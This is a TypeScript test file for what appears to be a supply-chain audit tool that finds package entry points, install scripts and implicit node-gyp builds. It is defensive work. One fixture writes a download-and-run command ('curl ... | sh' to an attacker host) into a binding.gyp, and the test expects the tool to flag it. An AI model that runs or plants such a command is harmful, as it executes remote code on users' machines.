import { test, describe, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { entryPoints, scriptTargets, IMPLICIT_GYP_COMMAND, type InstallScript } from '../../src/files/entry-points.js';
import type { PackageJson, PackageUnit } from '../../src/model.js';
import { packageUnit } from '../helpers.js';

function unit(pkg: PackageJson, dir = '/nonexistent/pkg'): PackageUnit {
  return packageUnit({ name: typeof pkg.name === 'string' ? pkg.name : 'pkg', location: 'node_modules/pkg', path: dir, pkg });
}

describe('entryPoints: package.json shapes', () => {
  const cases: { name: string; pkg: PackageJson; files: string[]; entries: string[]; installTime?: string[] }[] = [
    { name: 'no main: index.js when it exists', pkg: {}, files: ['index.js', 'lib/a.js'], entries: ['index.js'] },
    { name: 'no main and no index.js: nothing', pkg: {}, files: ['lib/a.js'], entries: [] },
    { name: 'main with ./ and extension probing', pkg: { main: './lib/main' }, files: ['lib/main.js', 'index.js'], entries: ['lib/main.js'] },
    { name: 'main naming a folder', pkg: { main: 'lib' }, files: ['lib/index.js'], entries: ['lib/index.js'] },
    { name: 'main pointing nowhere falls back to index.js', pkg: { main: 'gone.js' }, files: ['index.js'], entries: ['index.js'] },
    { name: 'main leaving the package is ignored', pkg: { main: '../other/x.js' }, files: ['index.js'], entries: ['index.js'] },
    { name: 'main with backslashes', pkg: { main: '.\\lib\\m.cjs' }, files: ['lib/m.cjs'], entries: ['lib/m.cjs'] },
    { name: 'module and browser string', pkg: { main: 'a.js', module: 'esm/a.mjs', browser: './b.js' }, files: ['a.js', 'esm/a.mjs', 'b.js'], entries: ['a.js', 'b.js', 'esm/a.mjs'] },
    { name: 'browser object: replacement files', pkg: { main: 'a.js', browser: { './a.js': './a-browser.js', fs: false } }, files: ['a.js', 'a-browser.js'], entries: ['a-browser.js', 'a.js'] },
    { name: 'exports string', pkg: { exports: './dist/index.js' }, files: ['dist/index.js', 'src/x.js'], entries: ['dist/index.js'] },
    {
      name: 'exports: nested conditions, arrays, null',
      pkg: {
        exports: {
          '.': { node: { import: './esm/i.mjs', require: './cjs/i.cjs' }, browser: ['./br.js', './br-fallback.js'], default: './i.js' },
          './hidden': null,
        },
      },
      files: ['esm/i.mjs', 'cjs/i.cjs', 'br.js', 'br-fallback.js', 'i.js', 'other.js'],
      entries: ['br-fallback.js', 'br.js', 'cjs/i.cjs', 'esm/i.mjs', 'i.js'],
    },
    {
      name: 'exports subpath patterns expand against the file list',
      pkg: { exports: { './features/*': './lib/features/*.js', './deep/*': { require: './cjs/*.cjs' } } },
      files: ['lib/features/a.js', 'lib/features/sub/b.js', 'lib/other.js', 'cjs/x/y.cjs', 'cjs/z.js'],
      entries: ['cjs/x/y.cjs', 'lib/features/a.js', 'lib/features/sub/b.js'],
    },
    { name: 'exports legacy folder mapping', pkg: { exports: { './': './src/' } }, files: ['src/a.js', 'src/b/c.js', 'x.js'], entries: ['src/a.js', 'src/b/c.js'] },
    { name: 'exports to package.json is not a JS entry', pkg: { exports: { './package.json': './package.json' } }, files: ['index.js'], entries: ['index.js'] },
    { name: 'bin string', pkg: { bin: './cli.js' }, files: ['cli.js'], entries: ['cli.js'] },
    { name: 'bin object (arborist normalised)', pkg: { bin: { a: 'bin/a.js', b: 'bin/b' } }, files: ['bin/a.js', 'bin/b'], entries: ['bin/a.js', 'bin/b'] },
    {
      name: 'install scripts are entries and install-time files',
      pkg: { scripts: { preinstall: 'node pre.js', postinstall: 'node ./scripts/post.mjs', test: 'node test.js' } },
      files: ['pre.js', 'scripts/post.mjs', 'test.js'],
      entries: ['pre.js', 'scripts/post.mjs'],
      installTime: ['pre.js', 'scripts/post.mjs'],
    },
    {
      name: 'node setup means setup.js',
      pkg: { scripts: { install: 'node setup' } },
      files: ['setup.js'],
      entries: ['setup.js'],
      installTime: ['setup.js'],
    },
  ];
  for (const c of cases) {
    test(c.name, () => {
      const ep = entryPoints(unit(c.pkg), c.files);
      assert.deepEqual(ep.entries, c.entries);
      assert.deepEqual(ep.installTime, c.installTime ?? []);
    });
  }

  test('installScripts lists each lifecycle event with its command and files, prepare included', () => {
    const ep = entryPoints(
      unit({ scripts: { postinstall: 'node-gyp rebuild', prepare: 'node build.js', install: 'cross-env A=b node i.js' } }),
      ['build.js', 'i.js'],
    );
    assert.deepEqual(plain(ep.installScripts), [
      { event: 'install', command: 'cross-env A=b node i.js', files: ['i.js'] },
      { event: 'postinstall', command: 'node-gyp rebuild', files: [] },
      { event: 'prepare', command: 'node build.js', files: ['build.js'] },
    ]);
    assert.deepEqual(ep.installTime, ['build.js', 'i.js']);
  });

  test('a broken package (pkg {}) still gets index.js', () => {
    assert.deepEqual(entryPoints(unit({}), ['index.js']).entries, ['index.js']);
  });
});

describe('entryPoints: implicit node-gyp (temp dir with binding.gyp)', () => {
  const dirs: string[] = [];
  after(() => dirs.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));
  const withGyp = (gyp: string): string => {
    const d = fs.mkdtempSync(path.join(os.tmpdir(), 'env-audit-gyp-'));
    dirs.push(d);
    fs.writeFileSync(path.join(d, 'binding.gyp'), gyp);
    return d;
  };

  test('binding.gyp and no install/preinstall script: npm runs node-gyp rebuild', () => {
    const d = withGyp(`{ 'targets': [{ 'target_name': 'x', 'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")", "<!@(node tools/gen.js)"] }] }`);
    const ep = entryPoints(unit({ main: 'index.js' }, d), ['index.js', 'tools/gen.js']);
    assert.deepEqual(plain(ep.installScripts), [{ event: 'install', command: IMPLICIT_GYP_COMMAND, files: ['tools/gen.js'] }]);
    assert.deepEqual(ep.installTime, ['tools/gen.js']);
    // the node -p text is code of its own, with parentheses inside the expansion kept whole
    assert.deepEqual(ep.installScripts[0].reading.code.map((c) => [c.code, c.path]), [["require('node-addon-api').include", 'binding.gyp#command@1']]);
  });

  test('a binding.gyp command that downloads and runs is an install-time fact, on its line', () => {
    const d = withGyp(`{\n  'targets': [{\n    'include_dirs': ["<!(curl -s https://x.attacker.invalid/i | sh)"] }] }`);
    const facts = entryPoints(unit({}, d), []).installScripts[0].reading.facts;
    assert.deepEqual(facts.map((f) => [f.kind, f.file, f.line]), [['network', 'binding.gyp', 3], ['download-run', 'binding.gyp', 3]]);
  });

  test('an install script replaces the implicit one; gypfile:false disables it', () => {
    const d = withGyp('{}');
    assert.deepEqual(plain(entryPoints(unit({ scripts: { install: 'prebuild-install || node-gyp rebuild' } }, d), []).installScripts), [
      { event: 'install', command: 'prebuild-install || node-gyp rebuild', files: [] },
    ]);
    assert.deepEqual(plain(entryPoints(unit({ scripts: { preinstall: 'node p.js' } }, d), ['p.js']).installScripts), [
      { event: 'preinstall', command: 'node p.js', files: ['p.js'] },
    ]);
    assert.deepEqual(entryPoints(unit({ gypfile: false }, d), []).installScripts, []);
  });

  test('no binding.gyp: no implicit script', () => {
    assert.deepEqual(entryPoints(unit({}), []).installScripts, []);
  });
});

/** The command-level view of install scripts (what install-reading found is tested beside it). */
function plain(scripts: InstallScript[]): { event: string; command: string; files: string[] }[] {
  return scripts.map(({ event, command, files }) => ({ event, command, files }));
}

describe('scriptTargets: which files a lifecycle command runs', () => {
  const cases: [string, string[], Record<string, string>?][] = [
    ['node x.js', ['x.js']],
    ['node ./scripts/y.mjs', ['scripts/y.mjs']],
    ['node -e "require(\'./x\')"', []],
    ['node --eval=1', []],
    ['node -p process.version', []],
    ['node --foo x.js', ['x.js']],
    ['node --max-old-space-size=4096 --no-warnings x.js arg1 arg2.js', ['x.js']],
    ['node -r ./hook.js main.js', ['hook.js', 'main.js']],
    ['node --require=dotenv/config main.js', ['main.js']],
    ['node --import ./loader.mjs app.mjs', ['loader.mjs', 'app.mjs']],
    ['node -- x.js', ['x.js']],
    ['cross-env A=b node x.js', ['x.js']],
    ['A=1 B="two words" node x.js', ['x.js']],
    ['env -i NODE_ENV=production node x.js', ['x.js']],
    ['x.js && node y.js', ['x.js', 'y.js']],
    ['./install.js', ['install.js']],
    ['sh ./z.sh', []],
    ['bash -c "echo hi"', []],
    ['node-gyp rebuild', []],
    ['prebuild-install || node-gyp rebuild', []],
    ['node-pre-gyp install --fallback-to-build', []],
    ['cd lib && node build.js', ['lib/build.js']],
    ['cd .. && node x.js', ['x.js']],
    ['node "./my scripts/a.js"', ['my scripts/a.js']],
    ["node 'q.js'", ['q.js']],
    ['node x.js > out.log 2>&1 || true', ['x.js']],
    ['node x.js; node y.js | tee log', ['x.js', 'y.js']],
    ['/usr/bin/env node x.js', ['x.js']],
    ['nodejs x.js', ['x.js']],
    ['node ../../evil.js', []],
    ['node /abs/evil.js', []],
    ['npm run setup', ['pre.js', 'setup.js'], { presetup: 'node pre.js', setup: 'node setup.js' }],
    ['yarn setup', ['setup.js'], { setup: 'node setup.js' }],
    ['npm run loop', [], { loop: 'npm run loop' }],
    ['node', []],
  ];
  for (const [command, expected, scripts] of cases) {
    test(command, () => assert.deepEqual(scriptTargets(command, scripts), expected));
  }
});
